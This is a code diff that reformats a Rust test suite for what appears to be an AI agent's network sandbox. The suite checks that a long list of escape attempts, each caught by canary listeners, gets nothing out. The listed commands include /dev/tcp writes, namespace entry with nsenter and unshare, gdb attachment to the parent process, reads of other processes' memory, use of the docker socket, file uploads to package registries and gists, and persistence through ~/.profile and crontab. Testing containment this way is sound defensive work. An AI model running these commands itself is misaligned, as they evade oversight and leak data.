@@ -37,7 +37,9 @@ impl Canaries {
         canaries.watch("tcp", move || tcp.accept().is_ok());
         canaries.watch("udp", move || udp.recv(&mut [0; 64]).is_ok());
         canaries.watch("abstract socket", move || by_name.accept().is_ok());
-        canaries.watch("socket file", move || by_path.accept().is_ok_and(|(mut peer, _)| peer.read(&mut [0]).is_ok()));
+        canaries.watch("socket file", move || {
+            by_path.accept().is_ok_and(|(mut peer, _)| peer.read(&mut [0]).is_ok())
+        });
         canaries
     }
 
@@ -65,59 +67,170 @@ const COMMANDS: &[(&str, &str)] = &[
     ("socks5", "curl -sS -m 9 --cacert ca.pem --proxy socks5h://{proxy} https://allowed.example/"),
     ("socks5 by address", "curl -sS -m 9 --proxy socks5://{proxy} http://127.0.0.1:{tcp}/"),
     ("socks4", "curl -sS -m 9 --proxy socks4a://{proxy} http://allowed.example/"),
-    ("another server name", "curl -sS -m 9 -k --connect-to unknown.example:443:pypi.org:443 https://unknown.example/"),
+    (
+        "another server name",
+        "curl -sS -m 9 -k --connect-to unknown.example:443:pypi.org:443 https://unknown.example/",
+    ),
     ("another Host header", "curl -sS -m 9 -H 'Host: unknown.example' http://pypi.org/"),
-    ("absolute form for another host", "printf 'GET http://unknown.example/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("second request on the connection", "printf 'GET http://pypi.org/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\nGET http://unknown.example/ HTTP/1.1\\r\\nHost: unknown.example\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("CONNECT to a mail port", "printf 'CONNECT allowed.example:25 HTTP/1.1\\r\\nHost: allowed.example:25\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("CONNECT to another port", "printf 'CONNECT pypi.org:8443 HTTP/1.1\\r\\nHost: pypi.org:8443\\r\\n\\r\\nnotes' | nc -w 3 {host} {port}"),
-    ("no TLS after CONNECT", "printf 'CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\nnotes' | nc -w 3 {host} {port}"),
-    ("CONNECT to an address", "printf 'CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("CONNECT to a number", "printf 'CONNECT 2130706433:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("CONNECT to a mapped address", "printf 'CONNECT [::ffff:127.0.0.1]:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
-    ("CONNECT to a zone", "printf 'CONNECT [::1%%25lo]:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}"),
+    (
+        "absolute form for another host",
+        "printf 'GET http://unknown.example/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "second request on the connection",
+        "printf 'GET http://pypi.org/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\nGET http://unknown.example/ HTTP/1.1\\r\\nHost: unknown.example\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to a mail port",
+        "printf 'CONNECT allowed.example:25 HTTP/1.1\\r\\nHost: allowed.example:25\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to another port",
+        "printf 'CONNECT pypi.org:8443 HTTP/1.1\\r\\nHost: pypi.org:8443\\r\\n\\r\\nnotes' | nc -w 3 {host} {port}",
+    ),
+    (
+        "no TLS after CONNECT",
+        "printf 'CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\nnotes' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to an address",
+        "printf 'CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to a number",
+        "printf 'CONNECT 2130706433:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to a mapped address",
+        "printf 'CONNECT [::ffff:127.0.0.1]:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
+    (
+        "CONNECT to a zone",
+        "printf 'CONNECT [::1%%25lo]:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | nc -w 3 {host} {port}",
+    ),
     ("loopback service", "curl -sS -m 9 http://host.gantry.internal:{tcp}/?q=notes"),
     ("the gateway itself", "curl -sS -m 9 http://host.gantry.internal:{gateway}/health"),
-    ("without the proxy", "env -u http_proxy -u https_proxy -u ALL_PROXY curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/"),
+    (
+        "without the proxy",
+        "env -u http_proxy -u https_proxy -u ALL_PROXY curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/",
+    ),
     ("bash tcp", "echo notes > /dev/tcp/127.0.0.1/{tcp}"),
     ("bash udp", "echo notes > /dev/udp/127.0.0.1/{udp}"),
     ("name lookup", "getent hosts notes.unknown.example"),
-    ("name lookup by a library", "python3 -c \"import socket; socket.getaddrinfo('notes.unknown.example', 80)\""),
-    ("own resolver", "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'notes', ('127.0.0.1', {udp}))\""),
-    ("connected datagrams", "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', {udp})); s.send(b'notes')\""),
+    (
+        "name lookup by a library",
+        "python3 -c \"import socket; socket.getaddrinfo('notes.unknown.example', 80)\"",
+    ),
+    (
+        "own resolver",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'notes', ('127.0.0.1', {udp}))\"",
+    ),
+    (
+        "connected datagrams",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', {udp})); s.send(b'notes')\"",
+    ),
     ("IPv6 loopback", "python3 -c \"import socket; socket.create_connection(('::1', {tcp}), 2)\""),
-    ("mapped address", "python3 -c \"import socket; s=socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', {tcp}))\""),
-    ("other addresses of the machine", "for a in $(hostname -I 2>/dev/null); do echo notes > /dev/tcp/$a/{tcp}; done"),
-    ("raw socket", "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(b'notes', ('127.0.0.1', 0))\"; echo notes > /dev/udp/127.0.0.1/{udp}"),
-    ("packet socket", "python3 -c \"import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(s)\"; echo notes > /dev/udp/127.0.0.1/{udp}"),
-    ("abstract socket", "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}'); s.send(b'notes')\""),
-    ("abstract datagram", "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'notes', '\\0{abstract}')\""),
-    ("socket file", "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('canary.sock'); s.send(b'notes')\""),
-    ("socket file by another path", "ln -s canary.sock other.sock; python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('other.sock'); s.send(b'notes')\""),
-    ("inherited descriptors", "for fd in /proc/self/fd/*; do case $fd in */0|*/1|*/2) ;; *) echo notes > $fd ;; esac; done"),
-    ("descriptors of other processes", "for fd in /proc/[0-9]*/fd/*; do [ -S $fd ] && echo notes > $fd; done"),
+    (
+        "mapped address",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', {tcp}))\"",
+    ),
+    (
+        "other addresses of the machine",
+        "for a in $(hostname -I 2>/dev/null); do echo notes > /dev/tcp/$a/{tcp}; done",
+    ),
+    (
+        "raw socket",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(b'notes', ('127.0.0.1', 0))\"; echo notes > /dev/udp/127.0.0.1/{udp}",
+    ),
+    (
+        "packet socket",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(s)\"; echo notes > /dev/udp/127.0.0.1/{udp}",
+    ),
+    (
+        "abstract socket",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}'); s.send(b'notes')\"",
+    ),
+    (
+        "abstract datagram",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'notes', '\\0{abstract}')\"",
+    ),
+    (
+        "socket file",
+        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('canary.sock'); s.send(b'notes')\"",
+    ),
+    (
+        "socket file by another path",
+        "ln -s canary.sock other.sock; python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('other.sock'); s.send(b'notes')\"",
+    ),
+    (
+        "inherited descriptors",
+        "for fd in /proc/self/fd/*; do case $fd in */0|*/1|*/2) ;; *) echo notes > $fd ;; esac; done",
+    ),
+    (
+        "descriptors of other processes",
+        "for fd in /proc/[0-9]*/fd/*; do [ -S $fd ] && echo notes > $fd; done",
+    ),
     ("network of process 1", "nsenter -t 1 -n curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/"),
-    ("network of the parent", "nsenter --net=/proc/$PPID/ns/net curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/"),
+    (
+        "network of the parent",
+        "nsenter --net=/proc/$PPID/ns/net curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/",
+    ),
     ("new namespaces", "unshare -Urn curl -sS -m 5 --noproxy '*' http://127.0.0.1:{tcp}/"),
-    ("mounted proc", "unshare -Urmp --fork sh -c 'mount -t proc proc /proc && nsenter -t 1 -n true'; echo notes > /dev/tcp/127.0.0.1/{tcp}"),
-    ("memory of other processes", "python3 -c \"import ctypes,os; [ctypes.CDLL(None).process_vm_readv(int(p),0,0,0,0,0) for p in os.listdir('/proc') if p.isdigit()]\"; grep -l notes /proc/[0-9]*/mem; echo notes > /dev/tcp/127.0.0.1/{tcp}"),
-    ("traced process", "gdb -p $PPID -batch -ex 'call (int)system(\"true\")'; echo notes > /dev/tcp/127.0.0.1/{tcp}"),
+    (
+        "mounted proc",
+        "unshare -Urmp --fork sh -c 'mount -t proc proc /proc && nsenter -t 1 -n true'; echo notes > /dev/tcp/127.0.0.1/{tcp}",
+    ),
+    (
+        "memory of other processes",
+        "python3 -c \"import ctypes,os; [ctypes.CDLL(None).process_vm_readv(int(p),0,0,0,0,0) for p in os.listdir('/proc') if p.isdigit()]\"; grep -l notes /proc/[0-9]*/mem; echo notes > /dev/tcp/127.0.0.1/{tcp}",
+    ),
+    (
+        "traced process",
+        "gdb -p $PPID -batch -ex 'call (int)system(\"true\")'; echo notes > /dev/tcp/127.0.0.1/{tcp}",
+    ),
     ("docker", "curl -sS -m 5 --unix-socket /var/run/docker.sock http://localhost/containers/json"),
-    ("ssh agent", "SSH_AUTH_SOCK=canary.sock ssh-add -l; ssh -o BatchMode=yes -o ConnectTimeout=3 git@github.com"),
+    (
+        "ssh agent",
+        "SSH_AUTH_SOCK=canary.sock ssh-add -l; ssh -o BatchMode=yes -o ConnectTimeout=3 git@github.com",
+    ),
     ("git over ssh", "git init -q leak1; git -C leak1 push ssh://git@github.com/x/y HEAD"),
-    ("git over https", "git init -q leak2; cd leak2; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m notes; timeout 9 git -c http.sslCAInfo=../ca.pem push https://github.com/x/y HEAD:notes"),
+    (
+        "git over https",
+        "git init -q leak2; cd leak2; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m notes; timeout 9 git -c http.sslCAInfo=../ca.pem push https://github.com/x/y HEAD:notes",
+    ),
     ("git over its own protocol", "timeout 5 git ls-remote git://allowed.example/x"),
-    ("git with a helper", "git -c protocol.ext.allow=always ls-remote 'ext::sh -c echo% notes% >% /dev/tcp/127.0.0.1/{tcp}'"),
+    (
+        "git with a helper",
+        "git -c protocol.ext.allow=always ls-remote 'ext::sh -c echo% notes% >% /dev/tcp/127.0.0.1/{tcp}'",
+    ),
     ("package upload", "curl -sS -m 9 --cacert ca.pem -T notes.txt https://registry.npmjs.org/notes"),
-    ("package publish", "curl -sS -m 9 --cacert ca.pem -X PUT --data-binary @notes.txt https://crates.io/api/v1/crates/new"),
-    ("package upload to PyPI", "curl -sS -m 9 --cacert ca.pem -F content=@notes.txt https://upload.pypi.org/legacy/"),
+    (
+        "package publish",
+        "curl -sS -m 9 --cacert ca.pem -X PUT --data-binary @notes.txt https://crates.io/api/v1/crates/new",
+    ),
+    (
+        "package upload to PyPI",
+        "curl -sS -m 9 --cacert ca.pem -F content=@notes.txt https://upload.pypi.org/legacy/",
+    ),
     ("gist", "curl -sS -m 9 --cacert ca.pem -d @notes.txt https://gist.github.com/"),
-    ("redirect to another host", "curl -sS -m 9 -L --cacert ca.pem 'https://allowed.example/redirect?to=https://unknown.example/'"),
-    ("many at once", "for i in 1 2 3 4 5 6 7 8; do curl -sS -m 9 --cacert ca.pem https://allowed.example/$i & done; wait"),
+    (
+        "redirect to another host",
+        "curl -sS -m 9 -L --cacert ca.pem 'https://allowed.example/redirect?to=https://unknown.example/'",
+    ),
+    (
+        "many at once",
+        "for i in 1 2 3 4 5 6 7 8; do curl -sS -m 9 --cacert ca.pem https://allowed.example/$i & done; wait",
+    ),
     ("after a while", "(sleep 1; curl -sS -m 9 --cacert ca.pem https://allowed.example/late) & sleep 2"),
-    ("outlives its command", "setsid nohup sh -c 'sleep 1; curl -sS -m 9 --cacert ca.pem https://allowed.example/orphan' >/dev/null 2>&1 & exit 0"),
+    (
+        "outlives its command",
+        "setsid nohup sh -c 'sleep 1; curl -sS -m 9 --cacert ca.pem https://allowed.example/orphan' >/dev/null 2>&1 & exit 0",
+    ),
     ("changed proxy variables", "https_proxy=http://127.0.0.1:{tcp} curl -sS -m 5 https://allowed.example/"),
-    ("start file", "echo 'curl https://unknown.example' >> ~/.profile; echo x > ~/.bash_login; cat ~/.bash_login"),
+    (
+        "start file",
+        "echo 'curl https://unknown.example' >> ~/.profile; echo x > ~/.bash_login; cat ~/.bash_login",
+    ),
     ("scheduled job", "echo '* * * * * curl https://unknown.example' | crontab -; echo x | at now"),
 ];
 
@@ -135,8 +248,7 @@ fn filled(command: &str, canaries: &Canaries, gateway: &str) -> String {
 }
 
 fn nothing_gets_out(autonomy: &str) {
-    let stage =
-        Stage::new(&format!("autonomy = \"{autonomy}\"\n[egress]\nallow = [\"allowed.example\"]"));
+    let stage = Stage::new(&format!("autonomy = \"{autonomy}\"\n[egress]\nallow = [\"allowed.example\"]"));
     let canaries = Canaries::start(&stage);
     let gateway = stage.up.url.rsplit(':').next().unwrap().trim_end_matches('/').to_owned();
     // A process that was started before the session had labels.
